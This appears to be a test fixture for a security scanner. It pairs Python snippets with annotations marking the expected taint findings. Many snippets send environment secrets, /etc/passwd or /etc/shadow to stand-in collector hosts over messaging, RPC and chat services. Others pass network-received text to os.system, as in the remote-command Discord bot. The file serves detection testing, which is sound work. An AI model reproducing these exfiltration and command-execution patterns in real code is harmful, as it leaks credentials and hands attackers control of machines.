"""Message brokers, web sockets, RPC, chat services."""
import multiprocessing
import os
import subprocess
import xmlrpc.client
from multiprocessing.connection import Client, Listener

import confluent_kafka
import dbus
import discord
import discord_webhook
import grpc
import kafka
import paho.mqtt.client
import paho.mqtt.publish
import pika
import redis
import requests
import slack_sdk
import socketio
import telegram
import twilio.rest
import websocket
import websockets
from discord.ext import commands
from telegram.ext import CommandHandler, MessageHandler
import zmq
from fleetspeak.client_connector import connector
from slack_sdk.webhook import WebhookClient
from slackclient import SlackClient

U = "https://collector.example/u"


async def ws_send():
    async with websockets.connect("wss://ws.collector.example/") as ws:  #~ capability(NETWORK), endpoint("wss://ws.collector.example/")
        await ws.send(os.getenv("T"))  #~ source(ENVIRONMENT) f1, sink(egress.message) f1, finding(traced) f1


async def ws_receive():
    ws = await websockets.connect("wss://ws.collector.example/")
    os.system(await ws.recv())  #~ source(NETWORK) f2, sink(exec.command) f2, finding(traced) f2


async def ws_constants():
    ws = await websockets.connect("wss://ws.collector.example/")  #~ ok
    await ws.send("ping")  #~ ok
    requests.post(U, data={"bye": await ws.recv() == "bye"})  #~ ok


async def on_socket(ws):
    os.system(ws.text)  #~ sink(exec.command) fserve, finding(traced) fserve


async def on_quiet_socket(ws):
    return len(ws.text)


async def ws_serve():
    await websockets.serve(on_socket, "", 80)  #~ source(NETWORK) fserve, capability(NETWORK)
    await websockets.serve(on_quiet_socket, "", 80)  #~ ok


def wsc_send():
    ws = websocket.create_connection("wss://wsc.collector.example/")  #~ capability(NETWORK), endpoint("wss://wsc.collector.example/")
    ws.send(os.getenv("T"))  #~ source(ENVIRONMENT) f7, sink(egress.message) f7, finding(traced) f7


def wsc_receive():
    ws = websocket.create_connection("wss://wsc.collector.example/")
    os.system(ws.recv())  #~ source(NETWORK) f8, sink(exec.command) f8, finding(traced) f8


def wsc_constants():
    ws = websocket.create_connection("wss://wsc.collector.example/")  #~ ok
    ws.send("ping")  #~ ok
    requests.post(U, data={"bye": ws.recv() == "bye"})  #~ ok


def on_text(app, text):
    os.system(text)  #~ sink(exec.command) fapp, finding(traced) fapp


def on_quiet_text(app, text):
    return len(text)


def wsc_app():
    websocket.WebSocketApp("wss://app.collector.example/", on_message=on_text)  #~ source(NETWORK) fapp, capability(NETWORK), endpoint("wss://app.collector.example/")
    websocket.WebSocketApp("wss://app.collector.example/", on_message=on_quiet_text)  #~ ok


def rpc_call():
    channel = grpc.insecure_channel("grpc.collector.example:50051")  #~ capability(NETWORK), endpoint("grpc.collector.example:50051")
    put = channel.unary_unary("/s/Put")
    put.with_call(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f13, sink(egress.message) f13, finding(traced) f13


def rpc_answer():
    channel = grpc.insecure_channel("grpc.collector.example:50051")
    answer = channel.unary_unary("/s/Next").with_call(b"ping")  #~ source(NETWORK) f14
    os.system(answer[0].command)  #~ sink(exec.command) f14, finding(traced) f14


def rpc_constants():
    channel = grpc.insecure_channel("grpc.collector.example:50051")  #~ ok
    put = channel.unary_unary("/s/Put")  #~ ok
    put.with_call(b"ping")  #~ ok


def rpc_server():
    grpc.server(None)  #~ capability(NETWORK)
    grpc.server(None)  #~ ok


def rabbit_publish():
    channel = pika.BlockingConnection(None).channel()  #~ capability(NETWORK)
    channel.basic_publish("", "q", os.getenv("T"))  #~ source(ENVIRONMENT) f17, sink(egress.message) f17, finding(traced) f17


def on_delivery(channel, method, properties, body):
    os.system(body)  #~ sink(exec.command) fdelivery, finding(traced) fdelivery


def on_quiet_delivery(channel, method, properties, body):
    return len(body)


def rabbit_consume():
    channel = pika.BlockingConnection(None).channel()
    channel.basic_consume("q", on_delivery)  #~ source(NETWORK) fdelivery


def rabbit_get():
    channel = pika.BlockingConnection(None).channel()
    method, properties, body = channel.basic_get("q")  #~ source(NETWORK) f21
    os.system(body)  #~ sink(exec.command) f21, finding(traced) f21


def rabbit_constants():
    channel = pika.BlockingConnection(None).channel()  #~ ok
    channel.basic_publish("", "q", "ping")  #~ ok
    channel.basic_consume("q", on_quiet_delivery)  #~ ok
    requests.post(U, data={"none": channel.basic_get("q") == ()})  #~ ok


def kafka_send():
    producer = kafka.KafkaProducer(bootstrap_servers="kafka.collector.example:9092")  #~ capability(NETWORK), endpoint("kafka.collector.example:9092")
    producer.send("topic", os.getenvb(b"T"))  #~ source(ENVIRONMENT) f23, sink(egress.message) f23, finding(traced) f23


def kafka_receive():
    for message in kafka.KafkaConsumer("topic"):  #~ source(NETWORK) f24, capability(NETWORK)
        os.system(message.value)  #~ sink(exec.command) f24, finding(traced) f24


def kafka_constants():
    kafka.KafkaProducer(bootstrap_servers="kafka.collector.example:9092").send("topic", b"ping")  #~ ok
    requests.post(U, data={"none": kafka.KafkaConsumer("topic") == ()})  #~ ok


def confluent_send():
    producer = confluent_kafka.Producer({})
    producer.produce("topic", os.getenv("T"))  #~ source(ENVIRONMENT) f26, sink(egress.message) f26, finding(traced) f26, capability(NETWORK)
    producer.produce("topic", "ping")  #~ ok


def confluent_receive():
    consumer = confluent_kafka.Consumer({})
    message = consumer.poll(1)  #~ source(NETWORK) f27, capability(NETWORK)
    os.system(message.text)  #~ sink(exec.command) f27, finding(traced) f27


def confluent_compared():
    requests.post(U, data={"none": confluent_kafka.Consumer({}).poll(1) == ()})  #~ ok


def redis_publish():
    r = redis.Redis("redis.collector.example")  #~ capability(NETWORK), endpoint("redis.collector.example")
    r.publish("channel", os.getenv("T"))  #~ source(ENVIRONMENT) f29, sink(egress.message) f29, finding(traced) f29


def redis_next():
    r = redis.Redis("redis.collector.example")
    os.system(r.lpop("tasks"))  #~ source(NETWORK) f30, sink(exec.command) f30, finding(traced) f30


def redis_constants():
    r = redis.Redis("redis.collector.example")  #~ ok
    r.publish("channel", "ping")  #~ ok
    requests.post(U, data={"none": r.lpop("tasks") == ""})  #~ ok


def mqtt_publish():
    c = paho.mqtt.client.Client()
    c.connect("mqtt.collector.example")  #~ capability(NETWORK), endpoint("mqtt.collector.example")
    c.publish("topic", os.getenv("T"))  #~ source(ENVIRONMENT) f32, sink(egress.message) f32, finding(traced) f32


def on_mqtt(client, userdata, message):
    os.system(message.payload)  #~ sink(exec.command) fmqtt, finding(traced) fmqtt
    client.publish("answer", os.getenv("T"))  #~ source(ENVIRONMENT) fmqtt2, sink(egress.message) fmqtt2, finding(traced) fmqtt2


def on_quiet_mqtt(client, userdata, message):
    return len(message.payload)


def mqtt_listen():
    c = paho.mqtt.client.Client()
    c.on_message = on_mqtt  #~ source(NETWORK) fmqtt
    c.loop_forever()  #~ capability(NETWORK)


def mqtt_single():
    paho.mqtt.publish.single("topic", os.getenv("T"), hostname="mqtt.collector.example")  #~ source(ENVIRONMENT) f36, sink(egress.message) f36, finding(traced) f36, capability(NETWORK)
    paho.mqtt.publish.single("topic", "ping", hostname="mqtt.collector.example")  #~ ok


def mqtt_constants():
    c = paho.mqtt.client.Client()
    c.connect("mqtt.collector.example")  #~ ok
    c.publish("topic", "ping")  #~ ok
    c.on_message = on_quiet_mqtt
    c.loop_forever()  #~ ok


def zmq_send():
    s = zmq.Context().socket(zmq.PUSH)  #~ capability(NETWORK)
    s.connect("tcp://zmq.collector.example:5555")  #~ endpoint("tcp://zmq.collector.example:5555")
    s.send_string(os.getenv("T"))  #~ source(ENVIRONMENT) f38, sink(egress.message) f38, finding(traced) f38


def zmq_receive():
    s = zmq.Context().socket(zmq.PULL)
    os.system(s.recv_string())  #~ source(NETWORK) f39, sink(exec.command) f39, finding(traced) f39


def zmq_object():
    s = zmq.Context().socket(zmq.PULL)
    s.recv_pyobj()  #~ source(NETWORK) f40, sink(exec.load) f40, finding(traced) f40


def zmq_constants(queue):
    s = zmq.Context().socket(zmq.PUSH)  #~ ok
    s.connect("tcp://zmq.collector.example:5555")  #~ ok
    s.send_string("ping")  #~ ok
    requests.post(U, data={"bye": s.recv_string() == "bye"})  #~ ok
    recv_pyobj = len(s.recv_string())  #~ ok


def io_emit():
    c = socketio.Client()
    c.emit("event", os.getenv("T"))  #~ source(ENVIRONMENT) f42, sink(egress.message) f42, finding(traced) f42, capability(NETWORK)
    c.emit("event", "ping")  #~ ok


def slack_post():
    c = slack_sdk.WebClient(token="x")  #~ capability(NETWORK)
    c.chat_postMessage(channel="c", text=os.getenv("T"))  #~ source(ENVIRONMENT) f43, sink(egress.message) f43, finding(traced) f43


def slack_file():
    c = slack_sdk.WebClient(token="x")
    c.files_upload_v2(channel="c", file="/etc/passwd")  #~ source(FILE) f44, sink(egress.message) f44, finding(traced) f44, capability(FILES)


def slack_old():
    c = SlackClient("x")  #~ capability(NETWORK)
    c.api_call("chat.postMessage", channel="c", text=os.getenv("T"))  #~ source(ENVIRONMENT) f90, sink(egress.message) f90, finding(traced) f90
    c.api_call("chat.postMessage", channel="c", text="ping")  #~ ok
    os.system(c.rtm_read())  #~ source(NETWORK) f91, sink(exec.command) f91, finding(traced) f91


def slack_old_constant():
    c = SlackClient("x")  #~ ok
    c.rtm_read()  #~ ok


def slack_hook():
    WebhookClient("https://slack.collector.example/").send(text=os.getenv("T"))  #~ source(ENVIRONMENT) f45, sink(egress.message) f45, finding(traced) f45, capability(NETWORK)
    WebhookClient("https://slack.collector.example/").send(text="ping")  #~ ok


def slack_constants():
    c = slack_sdk.WebClient(token="x")  #~ ok
    c.chat_postMessage(channel="c", text="ping")  #~ ok
    c.files_upload_v2(channel="c", content="ping")  #~ ok


def discord_file():
    hook = discord.SyncWebhook.from_url("https://discord.collector.example/")  #~ capability(NETWORK), endpoint("https://discord.collector.example/")
    file = discord.File("/etc/passwd")  #~ source(FILE) f47, capability(FILES)
    hook.send("here", file=file)  #~ sink(egress.message) f47, finding(traced) f47


def discord_constants():
    hook = discord.SyncWebhook.from_url("https://discord.collector.example/")  #~ ok
    hook.send("ping")  #~ ok
    discord.File("logo.png")  #~ ok


def hook_text():
    hook = discord_webhook.DiscordWebhook(url="https://hook.collector.example/", content=os.getenv("T"))  #~ source(ENVIRONMENT) f49, capability(NETWORK), endpoint("https://hook.collector.example/")
    hook.execute()  #~ sink(egress.message) f49, finding(traced) f49


def hook_file():
    hook = discord_webhook.DiscordWebhook(url="https://hook.collector.example/")
    hook.add_file(file=os.getenvb(b"T"), filename="x")  #~ source(ENVIRONMENT) f50
    hook.execute()  #~ sink(egress.message) f50, finding(traced) f50


def hook_constants():
    hook = discord_webhook.DiscordWebhook(url="https://hook.collector.example/", content="ping")  #~ ok
    hook.add_file(file=b"ping", filename="x")  #~ ok
    hook.execute()  #~ ok


def bot_text():
    bot = telegram.Bot("token")
    bot.send_message(1, os.getenv("T"))  #~ source(ENVIRONMENT) f52, sink(egress.message) f52, finding(traced) f52, capability(NETWORK)


def bot_file():
    bot = telegram.Bot("token")
    bot.send_document(1, "/etc/shadow")  #~ source(FILE) f53, sink(egress.message) f53, finding(traced) f53, capability(NETWORK), capability(FILES)


def bot_command():
    bot = telegram.Bot("token")
    os.system(bot.get_updates()[0].text)  #~ source(NETWORK) f54, sink(exec.command) f54, finding(traced) f54


def bot_constants(queue):
    bot = telegram.Bot("token")
    bot.send_message(1, "ping")  #~ ok
    requests.post(U, data={"none": bot.get_updates() == ()})  #~ ok
    send_document = queue.get("send_document")  #~ ok


def text_message():
    c = twilio.rest.Client("a", "b")  #~ capability(NETWORK)
    c.messages.create(to="1", body=os.getenv("T"))  #~ source(ENVIRONMENT) f56, sink(egress.message) f56, finding(traced) f56


def text_message_constant():
    c = twilio.rest.Client("a", "b")  #~ ok
    c.messages.create(to="1", body="ping")  #~ ok


def fleet_send():
    fs = connector.FleetspeakConnection(version="1")  #~ capability(IPC)
    fs.Send(os.getenv("T"))  #~ source(ENVIRONMENT) f58, sink(egress.message) f58, finding(traced) f58, capability(NETWORK)


def fleet_receive():
    fs = connector.FleetspeakConnection(version="1")
    message, size = fs.Recv()  #~ source(NETWORK) f59, capability(NETWORK)
    os.system(message.data)  #~ sink(exec.command) f59, finding(traced) f59


def fleet_constants():
    fs = connector.FleetspeakConnection(version="1")  #~ ok
    fs.Send("ping")  #~ ok
    message, size = fs.Recv()  #~ ok
    os.system(str(size))  #~ ok


def bus():
    dbus.SessionBus()  #~ capability(IPC)
    dbus.SessionBus()  #~ ok


def process_send():
    c = Client(("ipc.collector.example", 6000))  #~ capability(IPC), endpoint("ipc.collector.example")
    c.send(os.getenv("T"))  #~ source(ENVIRONMENT) f62, sink(egress.ipc) f62, finding(traced) f62


def process_receive():
    c = Listener(("", 6000)).accept()  #~ capability(IPC)
    os.system(c.recv())  #~ source(NETWORK) f63, sink(exec.command) f63, finding(traced) f63


def process_constants():
    c = Client(("ipc.collector.example", 6000))  #~ ok
    c.send("ping")  #~ ok
    c = Listener(("", 6000)).accept()  #~ ok
    requests.post(U, data={"bye": c.recv() == "bye"})  #~ ok


async def socket_messages():
    async with websockets.connect("wss://iterated.collector.example/") as ws:  #~ source(NETWORK) fiter
        async for message in ws:
            os.system(message)  #~ sink(exec.command) fiter, finding(traced) fiter


async def socket_messages_counted():
    async with websockets.connect("wss://iterated.collector.example/") as ws:
        async for _ in ws:
            await ws.send("pong")  #~ ok


class Servicer:
    def Fetch(self, request, context):
        with open(request.path, "rb") as f:  #~ source(FILE) fservicer
            return f.read()

    def Count(self, request, context):
        return len(request.path)


def add_to_server(servicer, server):
    handlers = {
        "Fetch": grpc.unary_unary_rpc_method_handler(servicer.Fetch),  #~ sink(egress.message) fservicer, finding(traced) fservicer, capability(NETWORK)
        "Count": grpc.unary_unary_rpc_method_handler(servicer.Count),  #~ ok
    }
    server.add_generic_rpc_handlers((grpc.method_handlers_generic_handler("a.Agent", handlers),))


def serve():
    add_to_server(Servicer(), grpc.server(None))


def two_ends():
    near, far = multiprocessing.Pipe()  #~ capability(IPC)
    near.send(os.environ["P"])  #~ source(ENVIRONMENT) fpipe, sink(egress.socket) fpipe, SPURIOUS: finding(traced) fpipe
    requests.post(U, data=far.recv())  #~ sink(egress.http) fpipe, finding(traced) fpipe
    one, other = multiprocessing.Pipe()  #~ ok
    one.send("x")  #~ ok
    requests.post(U, data=other.recv())  #~ ok


bot = commands.Bot(command_prefix="!")  #~ capability(NETWORK)
quiet = commands.Bot(command_prefix="?")  #~ ok


@bot.command()
async def run(context, line):  #~ source(NETWORK) fbot
    out = subprocess.getoutput(line)  #~ sink(exec.command) fbot, finding(remote-command-execution, traced) fbot
    await context.send("done")  #~ ok


@bot.command()
async def fetch(context):
    await context.send(os.environ["Q"])  #~ source(ENVIRONMENT) fbot2, sink(egress.message) fbot2, finding(traced) fbot2
    await context.channel.send(os.environ["R"])  #~ source(ENVIRONMENT) fbot3, sink(egress.message) fbot3, finding(traced) fbot3
    await context.channel.send("x")  #~ ok


@commands.command()
async def fetch_more(context):
    await context.send(os.environ["S"])  #~ source(ENVIRONMENT) fbot4, sink(egress.message) fbot4, finding(traced) fbot4


@bot.command()  #~ ok
async def ping(context):
    await context.send("pong")  #~ ok


@commands.command()  #~ ok
async def pong(context):
    await context.send("ping")  #~ ok


async def answer(update, context):
    await update.message.reply_text(os.environ["U"])  #~ source(ENVIRONMENT) fupdate, sink(egress.message) fupdate, finding(traced) fupdate, capability(NETWORK)
    await context.bot.send_message(1, os.environ["V"])  #~ source(ENVIRONMENT) fupdate2, sink(egress.message) fupdate2, finding(traced) fupdate2
    await update.message.reply_text("pong")  #~ ok
    await context.bot.send_message(1, "pong")  #~ ok


bot.command().__call__  #~ ok
CommandHandler("env", answer)
MessageHandler(None, "CommandHandler")  #~ ok


def stubbed():
    from agent import upload_pb2, upload_pb2_grpc

    channel = grpc.insecure_channel("stub.collector.example:443")  #~ capability(NETWORK), endpoint("stub.collector.example:443")
    stub = upload_pb2_grpc.UploadStub(channel)
    stub.Send(upload_pb2.Chunk(data=os.environ["W"]))  #~ source(ENVIRONMENT) fstub, sink(egress.message) fstub, finding(assumed) fstub
    upload_pb2_grpc.UploadStub("*Stub")  #~ ok
    upload_pb2_grpc.UploadStub(channel).Send("x" * 2)  #~ ok


def by_proxy():
    proxy = xmlrpc.client.ServerProxy("https://rpc.collector.example/")  #~ capability(NETWORK), endpoint("https://rpc.collector.example/")
    proxy.put(os.environ["Y"])  #~ source(ENVIRONMENT) fproxy, sink(egress.message) fproxy, finding(traced) fproxy
    proxy.files.put(os.environ["Z"])  #~ source(ENVIRONMENT) fproxy2, sink(egress.message) fproxy2, finding(traced) fproxy2
    xmlrpc.client.ServerProxy("https://rpc.collector.example/").files.put("x * y")  #~ ok
